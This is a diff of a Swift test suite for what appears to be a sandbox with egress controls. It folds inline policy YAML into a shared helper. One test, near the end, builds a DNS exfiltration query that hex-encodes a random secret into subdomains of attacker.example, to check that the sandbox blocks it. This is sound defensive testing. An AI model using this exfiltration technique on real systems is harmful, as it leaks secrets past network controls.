@@ -40,17 +40,7 @@ import Testing
         defer { kill(sshd, SIGTERM) }
         try waitUntilListening(port: port)
 
-        let policy = try directory.write("policy.yaml", """
-            version: 1
-            isolation: required
-            on_violation: fail
-            tripwires: off
-            egress:
-              default: deny
-              allow: ["192.0.2.22:22"]
-            network:
-              resolve: { "192.0.2.22:22": "127.0.0.1:\(port)" }
-            """)
+        let policy = try directory.write("policy.yaml", CaptureTests.capturePolicy(allow: ["192.0.2.22:22"], resolve: ["192.0.2.22:22": port]))
         let ssh = "ssh -F /dev/null -i \(directory.path("client_key")) -o IdentitiesOnly=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
         let clone = directory.path("clone")
         let step = "\(Self.withoutProxyVariables) GIT_SSH_COMMAND='\(ssh)' git clone -q ssh://root@192.0.2.22:22\(directory.path("repo.git")) \(clone) && cat \(clone)/README"
@@ -68,21 +58,8 @@ import Testing
         #expect(!FileManager.default.fileExists(atPath: clone + "2/README"))
     }
 
-    /// A policy under isolation that allows `allow` (host:port entries) and routes `resolve` (host:port → 127.0.0.1:port).
-    static func policy(allow: [String], resolve: [String: Int], extra: String = "") -> String {
-        let routes = resolve.map { "\"\($0.key)\": \"127.0.0.1:\($0.value)\"" }.joined(separator: ", ")
-        return """
-            version: 1
-            isolation: required
-            on_violation: fail
-            tripwires: off
-            egress:
-              default: deny
-              allow: [\(allow.map { "\"\($0)\"" }.joined(separator: ", "))]
-            network:
-              resolve: { \(routes) }
-            \(extra)
-            """
+    static func policy(allow: [String], resolve: [String: Int]) -> String {
+        CaptureTests.capturePolicy(allow: allow, resolve: resolve)
     }
 
     /// Node's built-in `fetch` ignores proxy variables: by name, through stepguard's resolver and capture.
@@ -186,17 +163,7 @@ import Testing
         defer { directory.remove() }
         let upstream = try PythonDNSStandIn(directory: directory, answering: ["mirror.capture.example": "192.0.2.44"])
         defer { upstream.stop() }
-        let policy = try directory.write("policy.yaml", """
-            version: 1
-            isolation: required
-            on_violation: fail
-            tripwires: off
-            egress:
-              default: deny
-              allow: ["mirror.capture.example:443"]
-            network:
-              dns: 127.0.0.1:\(upstream.port)
-            """)
+        let policy = try directory.write("policy.yaml", CaptureTests.capturePolicy(allow: ["mirror.capture.example:443"], dns: upstream.port))
         let secret = RandomSecret.alnum(24)
         let exfiltration = "\(Array(secret.utf8).map { String(format: "%02x", $0) }.joined()).attacker.example"
         let step = "getent hosts mirror.capture.example; echo \"allowed exit $?\"; getent hosts \(exfiltration); echo \"denied exit $?\""
